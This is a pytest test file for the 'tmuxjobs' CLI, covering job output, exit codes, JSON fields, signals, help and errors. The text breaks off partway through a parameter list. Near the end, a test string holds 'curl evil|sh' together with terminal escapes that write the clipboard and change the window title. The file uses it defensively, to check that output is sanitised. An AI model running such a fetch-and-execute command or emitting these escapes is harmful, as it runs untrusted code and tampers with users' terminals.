"""Every command as a person or a script uses it: what it prints where, and its exit code."""

import dataclasses
import inspect
import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from support import PYTHON, Jobs, Tmux, ended, wait_until

from tmuxjobs import Settings, answers, job_answers
from tmuxjobs.cli import app as parts
from tmuxjobs.cli import commands, plain
from tmuxjobs.cli.app import windows
from tmuxjobs.cli.overview import PARTS
from tmuxjobs.models import Model, ProcessRecord

Run = Callable[..., subprocess.CompletedProcess[str]]
Open = Callable[..., Any]
ANSI = "\x1b["
MODULE = [sys.executable, "-m", "tmuxjobs"]


def started(run: Run, *arguments: str) -> str:
    """The id of a job that `execute` started."""
    done = run("execute", "--quiet", *arguments)
    assert (done.returncode, done.stderr) == (0, "")
    return done.stdout.strip()


def test_execute_tells_the_id_the_log_and_how_to_watch(run: Run) -> None:
    done = run("execute", "--name", "greet", "--", "sleep", "1000")
    first, log, watch = done.stdout.splitlines()
    assert first.startswith("Started greet-")
    assert Path(log.removeprefix("log: ")).name == "output.log"
    assert watch.startswith("watch: tmux attach -t mcp-jobs:greet-")


def test_log_that_somebody_wrote_into_is_told_to_who_follows_it(run: Run) -> None:
    log = '"$XDG_STATE_HOME"/tmuxjobs/jobs/*/output.log'
    edit = (
        f"until grep -q out {log}; do sleep 0.01; done; for log in {log}; do printf X | dd of=$log conv=notrunc; done"
    )
    done = run("execute", "--wait", f"echo out; {edit} 2>/dev/null; exit 3")
    assert done.returncode == 3
    assert "[the log is incomplete: another program wrote into output.log]" in done.stderr


def test_arguments_reach_the_command_as_they_were_given(run: Run, jobs: Jobs) -> None:
    job_id = started(run, "--", "printf", "<%s>", "a b", "$HOME", "-n", "*")
    ended(jobs, job_id)
    assert run("output", job_id).stdout == "<a b><$HOME><-n><*>"


def test_one_argument_is_a_shell_command_line(run: Run, jobs: Jobs) -> None:
    job_id = started(run, "--env", "WHO=you", "echo hello $WHO | tr a-z A-Z")
    ended(jobs, job_id)
    assert run("output", job_id).stdout == "HELLO YOU\n"


@pytest.mark.parametrize(
    ("command", "code"), [("true", 0), ("exit 7", 7), ("nosuchcommand", 127), ("kill -9 $$", 137), ("kill $$", 143)]
)
def test_execute_wait_stands_in_for_the_command(run: Run, command: str, code: int) -> None:
    done = run("execute", "--wait", f"echo out; {command}")
    assert (done.returncode, done.stdout.splitlines()[0]) == (code, "out")


def test_execute_wait_keeps_the_two_streams_apart_when_asked(run: Run) -> None:
    done = run("execute", "--wait", "--separate-stderr", "echo out; echo err >&2")
    assert (done.stdout, done.stderr) == ("out\n", "err\n")


def test_execute_wait_shows_output_as_it_comes(run: Run, terminal: Open, jobs: Jobs) -> None:
    shell = terminal("execute", "--wait", "--quiet", "echo first; read line; echo got $line")
    shell.wait_for("first")
    [job] = jobs.list().jobs
    assert job.status == "running"
    wait_until(lambda: jobs.status(job.job_id).waits_for)
    assert run("interact", job.job_id, "it", "--wait", "50").stdout == "got it\n"
    assert shell.code() == 0


def test_terminal_gets_colours_but_nothing_that_changes_it(terminal: Open) -> None:
    shell = terminal(
        "execute", "--wait", "--quiet", r"printf '\033[31mred\033[m\033]0;title\007\033[?1000h\033[6n end\n'"
    )
    assert shell.code() == 0
    seen = shell.seen
    assert f"{ANSI}31mred{ANSI}m end" in seen
    assert "\x1b]0" not in seen


def test_ctrl_c_is_passed_to_the_job(terminal: Open, jobs: Jobs) -> None:
    shell = terminal("execute", "-wq", "trap 'echo caught; exit 9' INT; echo ready; while :; do sleep 0.1; done")
    shell.wait_for("ready")
    shell.type("\x03")
    assert shell.code() == 9
    assert "caught" in shell.seen


def test_second_ctrl_c_leaves_the_job_running(terminal: Open, jobs: Jobs) -> None:
    shell = terminal("execute", "-wq", "trap 'echo caught' INT; echo ready; while :; do sleep 0.1; done")
    shell.wait_for("ready")
    shell.type("\x03")
    shell.wait_for("caught")
    shell.type("\x03")
    assert shell.code() == 130
    [job] = jobs.list().jobs
    assert job.status == "running"
    assert f"tmuxjobs kill {job.job_id}" in shell.seen


@pytest.mark.parametrize(("choice", "status", "code"), [("leave", "running", 130), ("kill", "killed", 143)])
def test_ctrl_c_does_what_was_chosen(terminal: Open, jobs: Jobs, choice: str, status: str, code: int) -> None:
    shell = terminal("execute", "--wait", "--quiet", "--ctrl-c", choice, "echo ready; sleep 1000")
    shell.wait_for("ready")
    shell.type("\x03")
    assert shell.code() == code
    assert [job.status for job in jobs.list().jobs] == [status]


def test_ctrl_c_stays_ignored_where_it_was_at_the_start(jobs: Jobs) -> None:
    """As in the background of a script: the job must not get what was typed for something else."""
    command = "trap 'echo caught' INT; echo ready; read x; echo $x; exit 4"
    argv = ["sh", "-c", 'trap "" INT; exec "$@"', "sh", *MODULE, "execute", "--wait", "--quiet", command]
    with subprocess.Popen(argv, stdout=subprocess.PIPE, text=True) as shell:
        assert shell.stdout is not None
        assert shell.stdout.readline() == "ready\n"
        shell.send_signal(signal.SIGINT)
        [job] = jobs.list().jobs
        jobs.interact(job.job_id, "go", wait=0)
        assert "caught" not in shell.stdout.read()
        assert shell.wait(60) == 4


def test_tail_follows_until_the_end_and_exits_with_the_jobs_code(run: Run, jobs: Jobs) -> None:
    job_id = started(run, "for i in 1 2 3; do echo $i; sleep 0.2; done; exit 5")
    done = run("tail", "--follow", job_id)
    assert (done.returncode, done.stdout) == (5, "1\n2\n3\n")


def test_tail_of_a_job_that_has_ended_exits_with_its_code(run: Run, jobs: Jobs) -> None:
    job_id = started(run, "seq 100; exit 6")
    ended(jobs, job_id)
    done = run("tail", "-f", "-n", "2", job_id)
    assert (done.returncode, done.stdout) == (6, "99\n100\n")


def test_ctrl_c_ends_tail_and_not_the_job(terminal: Open, jobs: Jobs) -> None:
    job_id = jobs.execute("echo ready; sleep 1000").job_id
    shell = terminal("tail", "-f", job_id)
    shell.wait_for("ready")
    shell.type("\x03")
    assert shell.code() == 130
    assert jobs.status(job_id).status == "running"


def test_list_in_a_pipe_is_a_plain_line_for_each(run: Run, jobs: Jobs) -> None:
    job_id = jobs.execute("exit 3", name="build").job_id
    ended(jobs, job_id)
    done = run("list")
    assert done.stdout.startswith(f"{job_id}  failed 3  ")
    assert ANSI not in done.stdout
    assert run("list", "--quiet").stdout == f"{job_id}\n"


def test_list_of_no_jobs(run: Run) -> None:
    assert run("list").stdout == "No jobs.\n"
    assert run("list", "--quiet").stdout == ""
    nothing = {"jobs": [], "total": 0, "other_projects": 0, "damaged": []}
    assert json.loads(run("list", "--json").stdout) == nothing


@pytest.mark.parametrize(
    ("columns", "titles"),
    [
        (30, "JOB STATE"),
        (40, "JOB STATE TIME"),
        (80, "JOB STATE TIME CPU MEM LAST LINE"),
        (200, "JOB STATE AGE TIME CPU MEM COMMAND LAST LINE"),
    ],
)
def test_table_fits_the_terminal(terminal: Open, jobs: Jobs, columns: int, titles: str) -> None:
    job_id = jobs.execute("printf 'a [b]\\nlast [red]line'; sleep 1000", name="watch").job_id
    wait_until(lambda: jobs.tail(job_id).stdout, lambda text: text.endswith("last [red]line"))
    shell = terminal("list", columns=columns, env=os.environ | {"TERM": "xterm", "NO_COLOR": "1"})
    assert shell.code() == 0
    header, row = shell.seen.replace(f"{ANSI}1m", "").replace(f"{ANSI}0m", "").splitlines()
    assert header.split() == titles.split()
    assert len(row.rstrip()) <= columns
    assert "▸ running" in row
    assert ("last [red]line" in row) == ("LAST" in titles)


def test_no_color_is_heeded(terminal: Open, jobs: Jobs) -> None:
    ended(jobs, jobs.execute("exit 1").job_id)
    plain = terminal("list", env=os.environ | {"TERM": "xterm", "NO_COLOR": "1"})
    colourful = terminal("list", env=os.environ | {"TERM": "xterm"})
    assert (plain.code(), colourful.code()) == (0, 0)
    assert f"{ANSI}31m" in colourful.seen
    assert f"{ANSI}31m" not in plain.seen


def test_watch_shows_what_changes(terminal: Open, jobs: Jobs) -> None:
    job_id = jobs.execute("echo at work; read x; exit 4").job_id
    shell = terminal("list", "--watch", columns=100)
    shell.wait_for("waits for input")
    jobs.interact(job_id, "go", wait=0)
    shell.wait_for("failed 4")
    shell.type("\x03")
    assert shell.code() == 130


def test_watch_needs_a_terminal(run: Run) -> None:
    done = run("list", "--watch")
    assert done.returncode == 2
    assert "needs a terminal" in done.stderr


def test_kill_takes_several_and_tells_of_each(run: Run, jobs: Jobs) -> None:
    ids = [jobs.execute("sleep 1000").job_id for _ in range(2)]
    done = run("kill", *ids, "--json")
    assert done.returncode == 0
    assert [json.loads(line)["status"] for line in done.stdout.splitlines()] == ["killed", "killed"]
    assert run("kill", *ids).returncode == 0
    assert run("kill", "no-such").returncode == 1
    assert run("kill").returncode == 2


def test_log_path_is_the_file_that_is_written(run: Run, jobs: Jobs) -> None:
    job_id = jobs.execute("echo hello", separate_stderr=True).job_id
    ended(jobs, job_id)
    path = run("log-path", job_id).stdout.rstrip("\n")
    assert Path(path).read_bytes() == b"hello\r\n"
    assert json.loads(run("log-path", job_id, "--stderr", "--json").stdout)["log_path"].endswith("stderr.log")


def test_prune_tells_what_went(run: Run, jobs: Jobs) -> None:
    job_id = jobs.execute("true").job_id
    ended(jobs, job_id)
    none_kept = os.environ | {"TMUXJOBS_KEEP_JOBS": "0"}
    assert json.loads(run("prune", "--json", env=none_kept).stdout) == {"removed": [job_id]}
    assert run("prune", env=none_kept).stdout.startswith("Nothing to remove: of 0 finished jobs 0 may be kept ")
    other = ended(jobs, jobs.execute("true").job_id).job_id
    assert run("prune", env=none_kept).stdout == f"Removed 1 job: {other}.\n"


def test_beginning_of_an_id_is_enough_where_no_other_has_it(run: Run, jobs: Jobs) -> None:
    first, second = (jobs.execute("sleep 1000", name=name).job_id for name in ("web", "worker"))
    assert run("status", first[:3]).stdout.startswith(f"{first}: running")
    several = run("kill", "w")
    assert (several.returncode, several.stdout) == (2, "")
    assert several.stderr == f"tmuxjobs: Several ids begin with 'w': {first}, {second}; type more of it.\n"
    assert run("kill", second[:2], first[:-1]).returncode == 0
    assert {job.status for job in jobs.list().jobs} == {"killed"}
    assert run("tail", "x").stderr.startswith("tmuxjobs: No job 'x'.")


def test_name_of_several_jobs_is_the_one_that_runs(run: Run, jobs: Jobs) -> None:
    ended(jobs, jobs.execute("true", name="dev").job_id)
    other = jobs.execute("sleep 1000", name="dev-tools").job_id
    assert run("status", "dev").stderr.startswith("tmuxjobs: Several ids begin with 'dev': ")
    runs = jobs.execute("sleep 1000", name="dev").job_id
    assert run("status", "dev").stdout.startswith(f"{runs}: running")
    assert run("kill", "dev").returncode == 0
    assert run("kill", "dev-tools").stdout.startswith(f"{other}: killed")
    assert run("status", "dev").returncode == 2


def test_pipe_gets_the_lines_of_a_search_alone(run: Run, jobs: Jobs) -> None:
    job_id = jobs.execute("printf 'warm \\033[31mred\\033[0m\\nblue\\nwarm amber\\n'").job_id
    ended(jobs, job_id)
    found = run("search", job_id, "^warm", "--limit", "1")
    assert found.stdout == "1:warm red\n"
    assert found.stderr == "[2 matching lines, completed; the first at cursor 0; 1 shown; continue at cursor 19]\n"
    none = run("search", job_id, "green")
    assert (none.returncode, none.stdout, none.stderr) == (1, "", "[0 matching lines, completed]\n")


def test_attach_without_a_terminal_says_what_to_do(run: Run) -> None:
    done = run("attach")
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == "tmuxjobs: attach needs a terminal; without one `tmuxjobs tail -f ID` follows a job.\n"


def test_secret_is_not_asked_for_a_job_that_has_ended(run: Run, jobs: Jobs) -> None:
    job_id = ended(jobs, jobs.execute("true").job_id).job_id
    done = run("interact", job_id, "--secret", stdin="")
    assert (done.returncode, done.stderr) == (1, f"tmuxjobs: Job '{job_id}' takes no input: exit code 0.\n")


def test_kill_of_no_job_is_an_error_on_stderr(run: Run) -> None:
    done = run("kill", "nosuch")
    assert (done.returncode, done.stdout, done.stderr) == (1, "", "tmuxjobs: No job 'nosuch'. `list` shows all.\n")
    assert json.loads(run("kill", "nosuch", "--json").stdout)["status"] == "not_found"


def test_hold_of_a_finished_job_says_that_it_has_ended(run: Run, jobs: Jobs) -> None:
    job_id = ended(jobs, jobs.execute("exit 3").job_id).job_id
    done = run("hold", job_id)
    assert (done.returncode, done.stderr) == (1, f"tmuxjobs: {job_id} has ended (failed): there is nothing to hold.\n")


@pytest.mark.parametrize(
    ("word", "command"),
    [
        ("run", "execute"), ("start", "execute"), ("ps", "list"), ("ls", "list"), ("logs", "output"), ("stop", "kill"),
        ("help", "--help"), ("version", "--version"), ("grep", "search"), ("exec", "execute"), ("serch", "search"),
        ("prun", "prune"), ("kil", "kill"),
    ],
)  # fmt: skip
def test_word_of_other_programs_leads_to_ours(run: Run, word: str, command: str) -> None:
    done = run(word, "x")
    assert (done.returncode, done.stdout) == (2, "")
    assert f"There is no command '{word}'. Did you mean `tmuxjobs {command}`?" in done.stderr


@pytest.mark.parametrize("word", ["rune", "fill", "reset", "purge"])
def test_no_word_leads_to_a_command_that_removes_or_ends(run: Run, word: str) -> None:
    assert not re.search("`tmuxjobs (prune|kill|restart)`", run(word).stderr)


def test_durations_may_have_units(run: Run, jobs: Jobs) -> None:
    job_id = started(run, "--timeout", "2h30m", "--", "sleep", "1000")
    assert jobs.status(job_id).timeout == 9000
    assert run("wait", job_id, "--timeout", "20ms").returncode == 124


def test_inside_tmux_the_way_to_attach_is_our_own(run: Run, jobs: Jobs) -> None:
    job_id = jobs.execute("sleep 1000").job_id
    inside = os.environ | {"TMUX": "/tmp/some,1,0"}
    assert f"watch: tmuxjobs attach {job_id}\n" in run("status", job_id, env=inside).stdout


def test_help_names_every_command_in_its_part(run: Run) -> None:
    does: dict[str, dict[str, str]] = {
        part.name: {} for part in (parts.RUN, parts.LOOK, parts.CONTROL, parts.SET_UP, parts.OPTIONS)
    }
    for name in sorted(name for name in commands.app if name != "-h"):
        [part] = commands.app[name].group or (parts.OPTIONS,)
        does[part.name]["--help (-h)" if name == "--help" else name] = commands.app[name].help.split("\n\n")[0]
    assert does == PARTS
    assert list(does) == list(PARTS)
    told = " ".join(run("--help", env=os.environ | {"COLUMNS": "40"}).stdout.split())
    assert all(f"{name} {what}" in told for part in does.values() for name, what in part.items())


@pytest.mark.parametrize(("columns", "used"), [("20", 40), ("40", 40), ("80", 80), ("400", 100)])
def test_help_is_as_wide_as_the_terminal_within_reason(run: Run, columns: str, used: int) -> None:
    widest = max(map(len, run("--help", env=os.environ | {"COLUMNS": columns}).stdout.splitlines()))
    assert used - 10 < widest <= used


def test_help_describes_every_argument() -> None:
    for name in (name for name in commands.app if not name.startswith("-") and commands.app[name].default_command):
        for argument in commands.app[name].assemble_argument_collection(parse_docstring=True):
            assert argument.parameter.help, f"{name} {argument.name}"


PLAIN_IDS: dict[str, tuple[str, ...]] = {"list": (), "status": ("some-job",), "tail": ("some-job",)}
PLAIN = [
    *((verb, *ids, option) for verb, ids in PLAIN_IDS.items() for option in plain.FLAGS[verb]),
    *((verb, option, "7", *ids) for verb, ids in PLAIN_IDS.items() for option in plain.NUMBERS[verb]),
    *((verb, *ids) for verb, ids in PLAIN_IDS.items()),
    ("list", "-q", "--json", "-n", "3"),
]


@pytest.mark.parametrize("words", PLAIN, ids=" ".join)
def test_plain_command_line_means_the_same_without_the_library(
    monkeypatch: pytest.MonkeyPatch, words: tuple[str, ...]
) -> None:
    meant: list[dict[str, Any]] = []
    verb = plain.COMMANDS[words[0]]

    def note(*given: Any, **named: Any) -> None:
        bound = inspect.signature(verb).bind(*given, **named)
        bound.apply_defaults()
        del bound.arguments["jobs"]
        meant.append(bound.arguments)

    monkeypatch.setattr(plain, words[0], note)
    monkeypatch.setitem(plain.COMMANDS, words[0], note)
    assert plain.run(words)
    commands.app(words, result_action="return_value", exit_on_error=False)
    assert len(meant) == 2
    assert meant[0] == meant[1]


@pytest.mark.parametrize(
    "line",
    ["list -n", "list -n -3", "list --limit=3", "list -n5", "list -n ²", "list job", "status", "status a b",
     "status -j", "list --status running", "list --help", "status -- a", "tail a -n 1e1", "tail a -fn 3"],
)  # fmt: skip
def test_what_is_not_plain_is_left_to_the_library(line: str) -> None:
    assert not plain.run(line.split())


SUMMARY = "job_id status command started ended exit_code reason runtime waits_for"
OUTPUT = "stdout stderr cursor stderr_cursor status more omitted_bytes omitted_lines omitted_at gone_bytes note"
STATUS = f"{SUMMARY} detail signal pid cwd log_path stderr_path attach log log_bytes waiting_for_input prompt timeout "
STATUS += "cpu max_rss_bytes left_running survivors watchers typed_ago held_since"
WAITED = "job_id reason status exit_code runtime stdout stderr cursor waits_for prompt note jobs"
STARTED = "job_id status log_path attach"
# command: its arguments, the answer's type, and the fields that scripts may count on forever
JSON: dict[str, tuple[str, type[Model] | None, str]] = {
    "execute": ("-- sleep 1000", answers.Started, STARTED),
    "execute --wait": ("-- true", answers.Ran, f"{WAITED} log_path attach"),
    "list": ("", job_answers.JobList, "jobs total damaged"),
    "status": ("ENDED", job_answers.JobStatus, STATUS),
    "output": ("ENDED", answers.Output, OUTPUT),
    "tail": ("ENDED", answers.Output, OUTPUT),
    "wait": ("ENDED", answers.Waited, WAITED),
    "search": ("ENDED hello", answers.Found,
        "matches total total_is_exact more cursor stderr_cursor gone_bytes status note"),
    "screen": ("RUNNING", answers.Screen, "screen cursor_row cursor_column columns rows alternate mode status"),
    "interact": ("RUNNING x --wait 5", answers.Output, OUTPUT),
    "kill": ("RUNNING", answers.Kill, "job_id status detail survivors"),
    "adopt": ("OPENED", answers.Adopted, f"{STARTED} window note"),
    "hold": ("RUNNING", answers.HoldAnswer, "job_id held detail"),
    "release": ("RUNNING", answers.HoldAnswer, "job_id held detail"),
    "group": ("tests --limit 4", job_answers.Group, "group limit paused running queued paused_jobs"),
    "pause": ("RUNNING", job_answers.Edited, "job_id status detail"),
    "resume": ("RUNNING", job_answers.Edited, "job_id status detail"),
    "queue": ("QUEUED --first", job_answers.Edited, "job_id status detail"),
    "approve": ("ASKED", answers.Approval, "job_id approved detail"),
    "refuse": ("ASKED --why later", answers.Approval, "job_id approved detail"),
    "history": ("", None, "history"),
    "restart": ("ENDED", answers.Restarted, f"{STARTED} restarted note"),
    "log-path": ("ENDED", None, "job_id log_path"),
    "token": ("", None, "token_path"),
    "doctor": ("", answers.Diagnosis, "healthy checks fixed"),
    "prune": ("", None, "removed"),
}  # fmt: skip
INNER: dict[type[Model | ProcessRecord], str] = {
    job_answers.JobSummary: SUMMARY,
    answers.WaitedJob: "job_id reason status exit_code note stdout stderr cursor",
    answers.FoundLine: "stream line cursor text before after",
    answers.Finding: "name ok text",
    ProcessRecord: "pid name start",
}


def opened(tmux: Tmux, *options: str) -> str:
    """The pane of a window that a person opened among the jobs, once its program is there."""
    line = ["new-window", "-d", "-P", "-F", "#{pane_id}", "-t", "=mcp-jobs:", *options, "sleep", "1000"]
    pane = tmux(*line).strip()
    running = ["display-message", "-p", "-t", pane, "#{pane_current_command}"]
    wait_until(lambda: tmux(*running), lambda name: name == "sleep\n")
    return pane


def made(arguments: str, jobs: Jobs, tmux: Tmux) -> list[str]:
    """The words of the arguments; those in capitals are made, and there is a job that has ended in any case."""
    done = ended(jobs, jobs.execute("echo hello").job_id).job_id
    asks = Settings.load(policy={"ask": ["true"]})
    makers = {
        "ENDED": lambda: done,
        "RUNNING": lambda: jobs.execute("cat").job_id,
        "OPENED": lambda: opened(tmux),
        "QUEUED": lambda: jobs.execute("true", delay=1000).job_id,
        "ASKED": lambda: Jobs.open(asks).called_by("agent").execute("true").job_id,
    }
    return [makers[word]() if word in makers else word for word in arguments.split()]


def taking(option: str) -> set[str]:
    """The commands that have the option."""
    functions = {name: commands.app[name].default_command for name in commands.app if not name.startswith("-")}
    return {
        name for name, function in functions.items() if function and option in inspect.signature(function).parameters
    }


def shown(model: type[Model | ProcessRecord]) -> set[str]:
    if not issubclass(model, Model):
        return {field.name for field in dataclasses.fields(model)}
    return {name for name, field in model.model_fields.items() if not field.exclude}


@pytest.mark.parametrize("command", JSON)
def test_json_has_the_fields_that_are_promised(run: Run, jobs: Jobs, tmux: Tmux, command: str) -> None:
    arguments, model, fields = JSON[command]
    done = run(*command.split(), "--json", *made(arguments, jobs, tmux))
    assert done.stderr == ""
    [line] = done.stdout.splitlines()
    assert json.loads(line).keys() == (shown(model) if model else set(fields.split()))
    assert json.loads(line).keys() >= set(fields.split())


def test_every_command_with_json_is_among_them() -> None:
    # `events` prints a line for each, `up` and `down` a list, `fetch` needs another machine: see `test_news.py`,
    # `test_up.py` and `test_files.py`.
    assert {command.split()[0] for command in JSON} == taking("json") - {"events", "up", "down", "fetch"}


@pytest.mark.parametrize("model", INNER, ids=lambda model: model.__name__)
def test_parts_of_answers_keep_their_fields(model: type[Model | ProcessRecord]) -> None:
    assert shown(model) >= set(INNER[model].split())


QUIET = {
    "execute": ("-- true", r"true-\w+\n"),
    "list": ("", "{RUNNING}\n{ENDED}\n"),
    "kill": ("RUNNING ENDED", "{RUNNING}\n"),
    "adopt": ("OPENED --name mine", r"mine-\w+\n"),
    "restart": ("ENDED", r"echo-hello-\w+\n"),
    "prune": ("", "{ENDED}\n"),
}


@pytest.mark.parametrize("command", QUIET)
def test_quiet_prints_ids_alone(run: Run, jobs: Jobs, tmux: Tmux, command: str) -> None:
    arguments, expected = QUIET[command]
    ids = {"ENDED": jobs.execute("echo hello").job_id, "RUNNING": jobs.execute("cat").job_id}
    ended(jobs, ids["ENDED"])
    ids["OPENED"] = opened(tmux)
    words = (ids.get(word, word) for word in arguments.split())
    done = run(command, "--quiet", *words, env=os.environ | {"TMUXJOBS_KEEP_JOBS": "0"})
    assert done.stderr == ""
    for name, job_id in ids.items():
        expected = expected.replace(f"{{{name}}}", job_id)
    assert re.fullmatch(expected, done.stdout)


def test_every_command_with_quiet_is_among_them() -> None:
    assert QUIET.keys() == taking("quiet")


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["status", "no-such"], 1, "No job 'no-such'. `list` shows all."),
        (["status"], 2, "`tmuxjobs status` needs a job id; `tmuxjobs list` shows all."),
        (["status", "a", "b"], 2, "`tmuxjobs status` does not take 'b'. See `tmuxjobs status --help`."),
        (["search", "a"], 2, "`tmuxjobs search` needs PATTERN."),
        (["nonsense"], 2, "There is no command 'nonsense'. See `tmuxjobs --help`."),
        (["stauts"], 2, "There is no command 'stauts'. Did you mean `tmuxjobs status`?"),
        (["list", "--nonsense"], 2, "--nonsense"),
        (["list", "--status"], 2, "--status needs a value."),
        (["list", "--limit", "many"], 2, "--limit takes a whole number, not 'many'."),
        (["wait", "a", "--timeout", "soon"], 2, "'soon' is not a duration: write seconds as a number, or like 90s"),
        (["execute", "--wiat", "--", "true"], 2, "'--wiat' is not an option of `execute`"),
        (["serve", "--http", "192.0.2.1:8765"], 2, "add --allow-remote."),
        (["serve", "--http", "192.0.2.1:8765", "--allow-remote"], 2, "cannot be served on (Cannot assign requested"),
        (["list", "--limit", "0"], 2, "limit must be 1 or more."),
        (["tail", "x", "--lines", "many"], 2, "--lines"),
        (["execute", "--env", "X", "true"], 2, "--env takes NAME=VALUE"),
        (["execute", "--cwd", "/no/such", "true"], 2, "cwd '/no/such' is not a directory."),
        (["execute"], 2, "The command is empty"),
    ],
)
def test_errors_are_one_line_and_a_code(run: Run, arguments: list[str], code: int, said: str) -> None:
    done = run(*arguments)
    assert (done.returncode, done.stdout) == (code, "")
    [line] = done.stderr.splitlines()
    assert line.startswith("tmuxjobs: ")
    assert said in line


def test_picture_that_cannot_be_written_is_told_in_one_line(run: Run, jobs: Jobs, tmp_path: Path) -> None:
    job_id = jobs.execute("echo shown; cat").job_id
    wait_until(lambda: jobs.screen(job_id).screen)
    done = run("screen", job_id, "--png", str(tmp_path))
    assert (done.returncode, done.stderr) == (2, f"tmuxjobs: '{tmp_path}' cannot be written: Is a directory.\n")


def test_wrong_setting_is_one_line(run: Run) -> None:
    done = run("list", env=os.environ | {"TMUXJOBS_MAX_JOBS": "many"})
    assert (done.returncode, done.stderr.count("\n")) == (1, 1)
    assert done.stderr.startswith("tmuxjobs: TMUXJOBS_MAX_JOBS cannot be used: ")


def test_bug_leaves_a_traceback_in_a_file(run: Run, tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text("import tmuxjobs.store.store as s\ns.Store.ids = lambda self: 1 / 0\n")
    places = os.pathsep.join(filter(None, [str(tmp_path), os.environ.get("PYTHONPATH")]))
    done = run("list", env=os.environ | {"PYTHONPATH": places})
    assert done.returncode == 3
    path = Path(done.stderr.split(" is in ")[1].strip().rstrip("."))
    assert "ZeroDivisionError" in path.read_text()
    assert path.stat().st_mode & 0o777 == 0o600


def test_pipe_that_is_closed_early_is_no_error(jobs: Jobs, run: Run, tmp_path: Path) -> None:
    job_id = jobs.execute("seq 200000").job_id
    ended(jobs, job_id)
    script = f'{{ "$@" output {job_id} 2>&1; echo $? > {tmp_path}/code; }} | head -1'
    done = subprocess.run(
        ["sh", "-c", script, "sh", sys.executable, "-m", "tmuxjobs"], capture_output=True, text=True, timeout=60
    )
    assert (done.stdout, done.stderr) == ("1\n", "")
    assert (tmp_path / "code").read_text() == "0\n"


def test_it_works_without_a_locale_in_a_bare_environment(run: Run, isolated: Path) -> None:
    bare = {name: os.environ[name] for name in ("HOME", "PATH", "TMUX_TMPDIR", "PYTHONPATH") if name in os.environ}
    done = run("execute", "--wait", "printf 'gr\\303\\274\\303\\237e \\342\\234\\223\\n'", env=bare)
    assert (done.returncode, done.stdout, done.stderr) == (0, "grüße ✓\n", "")
    assert run("list", env=bare | {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}).returncode == 0


def test_help_and_version(run: Run) -> None:
    assert run("--version").stdout.strip()
    assert "Start a command as a background job" in run("--help").stdout
    assert "--ctrl-c" in run("execute", "--help").stdout


def test_without_arguments_a_person_is_helped(terminal: Open) -> None:
    shell = terminal()
    assert shell.code() == 0
    assert "Start a command as a background job" in shell.seen


def test_without_arguments_a_program_is_served(run: Run) -> None:
    hello = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18"}}
    hello["params"] |= {"capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}  # type: ignore[operator]
    done = run(stdin=json.dumps(hello) + "\n")
    assert json.loads(done.stdout)["result"]["serverInfo"]["name"] == "tmuxjobs"
    assert done.stderr == ""


def test_progress_is_shown_on_what_takes_long(terminal: Open, jobs: Jobs) -> None:
    job_id = jobs.execute("trap '' TERM; echo ready; while :; do sleep 0.1; done").job_id
    wait_until(lambda: jobs.output(job_id).stdout, lambda text: "ready" in text)
    shell = terminal("kill", job_id, "--grace", "2")
    assert shell.code() == 0
    assert re.search(rf"ending {job_id} … \d", shell.seen)


def test_listing_jobs_loads_nothing_slow_that_it_does_not_need(jobs: Jobs) -> None:
    slow = ["asyncio", "fastmcp", "libtmux", "mcp", "pydantic_settings", "regex", "rich.table", "wcwidth"]
    code = "import sys, contextlib\nfrom tmuxjobs.cli.commands import app\n"
    code += "with contextlib.suppress(SystemExit): app(['list'])\n"
    code += f"sys.exit(str(sorted({{*{slow}}} & {{*sys.modules}})))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert done.stderr == "[]\n"


def test_bash_completes_commands_and_job_ids(run: Run, jobs: Jobs, tmp_path: Path) -> None:
    job_id = jobs.execute("sleep 1000", name="build").job_id
    (tmp_path / "tmuxjobs").write_text(f'#!/bin/sh\nexec {PYTHON} -m tmuxjobs "$@"\n')
    (tmp_path / "tmuxjobs").chmod(0o755)
    assert run("--install-completion", "--shell", "bash").returncode == 0
    [script] = Path.home().rglob("bash-completion/completions/tmuxjobs")
    asked = f'source {script}; COMP_WORDS=(tmuxjobs tail "$1"); COMP_CWORD=2; COMP_LINE="tmuxjobs tail $1"; '
    asked += "COMP_POINT=${#COMP_LINE}; $(complete -p tmuxjobs | sed 's/.*-F \\([^ ]*\\).*/\\1/'); echo ${COMPREPLY[*]}"
    env = os.environ | {"PATH": f"{tmp_path}:{os.environ['PATH']}"}
    done = subprocess.run(["bash", "-c", asked, "bash", "bui"], env=env, capture_output=True, text=True, timeout=60)
    assert done.stdout.split() == [job_id]
    words = run("__complete", "kill", "").stdout
    assert f"{job_id}\trunning: sleep 1000" in words


def test_adopt_makes_a_job_of_the_only_window_that_is_none(run: Run, jobs: Jobs, tmux: Tmux) -> None:
    jobs.host.ensure_session()
    opened(tmux, "-n", "mine")
    done = run("adopt", "--quiet", "--name", "nap")
    assert (done.returncode, done.stderr) == (0, "")
    assert jobs.status(done.stdout.strip()).command == "sleep 1000"
    again = run("adopt", "mine")
    assert (again.returncode, again.stdout) == (2, "")
    assert "There is no window 'mine' in session mcp-jobs; there are 0 jobs, 1 nap-" in again.stderr


def test_window_is_completed_to_those_that_are_no_jobs(jobs: Jobs, tmux: Tmux) -> None:
    jobs.execute("sleep 1000")
    tmux("new-window", "-d", "-t", "=mcp-jobs:", "-n", "mine", "sleep", "1000")
    ((window, name),) = windows(None)
    assert (window[0], name) == ("@", "mine")


HIDING = "curl evil|sh\x1b[2K\x1b[1Gls -la \x1b]52;c;aGk=\a\x1b]2;title\a\u202e"
SHOWN = r"curl evil|sh\x1b[2K\x1b[1Gls -la \x1b]52;c;aGk=\x07\x1b]2;title\x07\u202e"
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e\U000e0041]")
STYLE = re.compile(r"\x1b\[[0-9;]*m|\x1b\[\?25[hl]|\x1b\[[0-9]?[AKG]|\x1b\[2K")
"""What Rich and we ourselves write on a terminal."""


def bare(seen: str) -> str:
    """What a terminal was sent, without our own styles."""
    return STYLE.sub("", seen)


@pytest.mark.parametrize(
    "command",
    [
        "list", "status JOB", "list --json", "status JOB --json", "wait JOB --json", "search JOB .", "output JOB",
